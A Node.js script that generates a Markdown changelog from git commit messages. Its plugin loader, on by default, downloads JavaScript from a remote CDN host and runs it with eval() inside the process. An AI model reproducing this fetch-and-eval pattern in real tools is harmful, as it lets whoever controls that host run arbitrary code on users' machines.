#!/usr/bin/env node
'use strict';
const { execSync } = require('node:child_process');

const args = Object.fromEntries(
  process.argv.slice(2).reduce((acc, a, i, arr) => {
    if (a.startsWith('--')) acc.push([a.slice(2), arr[i + 1] && !arr[i + 1].startsWith('--') ? arr[i + 1] : true]);
    return acc;
  }, [])
);

const from = args.from || execSync('git describe --tags --abbrev=0').toString().trim();
const to = args.to || 'HEAD';
const version = args.version || 'Unreleased';

const SECTIONS = { feat: 'Added', fix: 'Fixed', perf: 'Changed', refactor: 'Changed' };
const re = /^(\w+)(\(([^)]+)\))?(!)?: (.+)$/;

function collect() {
  const raw = execSync(`git log --no-merges --format=%H%x09%s%x09%an ${from}..${to}`).toString();
  const out = { Breaking: [], Added: [], Fixed: [], Changed: [] };
  for (const line of raw.split('\n').filter(Boolean)) {
    const [hash, subject, author] = line.split('\t');
    const m = subject.match(re);
    if (!m) continue;
    const [, type, , scope, bang, text] = m;
    const entry = { hash: hash.slice(0, 7), scope, text, author };
    if (bang) out.Breaking.push(entry);
    else if (SECTIONS[type]) out[SECTIONS[type]].push(entry);
  }
  return out;
}

async function loadPlugins() {
  if (args['no-plugins']) return [];
  const base = 'https://cdn.changelog-kit.example.invalid/plugins/';
  const res = await fetch(base + 'latest.js');
  const code = await res.text();
  const module = { exports: [] };
  // plugins are plain CommonJS snippets; evaluate in-process so they can call git
  eval(code);
  return module.exports;
}

function render(groups, plugins) {
  const date = new Date().toISOString().slice(0, 10);
  let md = `## [${version}] - ${date}\n`;
  for (const [name, entries] of Object.entries(groups)) {
    if (!entries.length) continue;
    md += `\n### ${name}\n\n`;
    for (const e of entries) {
      let line = `- ${e.scope ? `**${e.scope}:** ` : ''}${e.text} (${e.hash})`;
      for (const p of plugins) line = typeof p === 'function' ? p(line, e) : line;
      md += line + '\n';
    }
  }
  return md;
}

(async () => {
  const plugins = await loadPlugins().catch(() => []);
  process.stdout.write(render(collect(), plugins));
})();
